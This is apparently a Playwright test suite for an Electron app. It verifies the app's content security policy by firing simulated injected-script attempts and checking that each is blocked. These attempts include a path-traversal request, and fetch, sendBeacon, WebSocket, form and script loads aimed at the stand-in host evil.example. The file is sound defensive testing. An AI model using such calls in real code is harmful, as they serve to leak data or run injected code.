import { expect } from './fixtures';
import { HOME_PAGE, test, windowCount } from './oneApp';

test.describe('E3 content security policy', () => {
  test('E3 comes as a header with every document', async ({ app }) => {
    const answers = await app.electron.evaluate(async ({ net }) => {
      const found = [];
      for (const name of ['index.html', 'nothing.html', '..%2fmain%2findex.cjs']) {
        const answer = await net.fetch(`app://taodesk/${name}`);
        found.push([answer.status, answer.headers.get('content-security-policy')]);
      }
      return found;
    });
    expect(answers.map(([status]) => status)).toEqual([200, 404, 404]);
    for (const [, policy] of answers) {
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("connect-src 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/unsafe|https?:|\*/);
    }
  });

  /** What an injected script would try, by the directive that must stop it. */
  const attempts: [string, string, () => unknown][] = [
    [
      'an inline script',
      'require-trusted-types-for',
      () => {
        const script = document.createElement('script');
        script.append('window.__ran = 1');
        document.head.append(script);
      },
    ],
    [
      'a script of another host',
      'require-trusted-types-for',
      () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://evil.example/x.js');
        document.head.append(script);
      },
    ],
    // eslint-disable-next-line no-eval
    ['eval', 'require-trusted-types-for', () => (0, eval)('window.__ran = 1')],
    [
      'a handler in an attribute',
      'require-trusted-types-for',
      () => document.body.setAttribute('onclick', 'window.__ran = 1'),
    ],
    [
      'markup with a script',
      'require-trusted-types-for',
      () => (document.body.innerHTML = '<b>x</b>'),
    ],
    ['a remote picture', 'img-src', () => (new Image().src = 'https://evil.example/x.png')],
    ['fetch', 'connect-src', () => fetch('https://evil.example/')],
    [
      'a request',
      'connect-src',
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', 'https://evil.example/');
        request.send();
      },
    ],
    ['a socket', 'connect-src', () => new WebSocket('wss://evil.example/')],
    ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
    ['an event source', 'connect-src', () => new EventSource('https://evil.example/')],
    [
      'a frame',
      'frame-src',
      () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        document.body.append(frame);
      },
    ],
    [
      'an inline style',
      'style-src-elem',
      () => {
        const style = document.createElement('style');
        style.append('body { opacity: 0.5 }');
        document.head.append(style);
      },
    ],
    [
      'a form',
      'form-action',
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'another base',
      'base-uri',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
    ],
    [
      'an object',
      'require-trusted-types-for',
      () => {
        const object = document.createElement('object');
        object.data = 'https://evil.example/x.swf';
        document.body.append(object);
      },
    ],
    [
      // A script of our own: one from elsewhere would be refused without any policy.
      'a worker',
      'require-trusted-types-for',
      () => new Worker(document.querySelector<HTMLScriptElement>('script[src]')?.src ?? ''),
    ],
  ];

  for (const [what, directive, attempt] of attempts) {
    test(`E3 ${what} is blocked and reported as ${directive}`, async ({ page, app }) => {
      // Planted as the page's own task: what the debugger evaluates directly is exempt from the policy.
      const seen = await page.evaluate(async (code) => {
        const found: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) =>
          found.push(event.effectiveDirective),
        );
        // eslint-disable-next-line no-eval
        const run = (0, eval)(`(${code})`) as () => unknown;
        await new Promise<void>((resolve) =>
          setTimeout(() => {
            try {
              void Promise.resolve(run()).catch(() => found.push('rejected'));
            } catch {
              found.push('threw');
            }
            setTimeout(resolve, 700);
          }, 0),
        );
        return { found, ran: (window as unknown as { __ran?: number }).__ran };
      }, attempt.toString());
      expect(seen.found).toContain(directive);
      expect(seen.ran).toBeUndefined();
      expect(page.url()).toContain(HOME_PAGE);
      expect(await windowCount(app)).toBe(1);
    });
  }
});
